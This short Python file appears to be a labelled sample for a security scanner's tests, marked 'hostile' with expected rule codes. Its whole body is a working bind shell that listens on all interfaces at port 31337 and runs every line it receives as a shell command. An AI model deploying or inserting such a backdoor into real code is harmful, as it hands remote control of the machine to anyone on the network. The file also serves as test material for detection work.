# label: hostile
# expect: V201 V302 V901
# note: Listens on a port and runs what comes in through a shell, for ever.
import os
import socket

srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", 31337))
srv.listen()
while True:
    conn, peer = srv.accept()
    f = conn.makefile("rw")
    for line in f:
        f.write(os.popen(line).read())
        f.flush()
    conn.close()
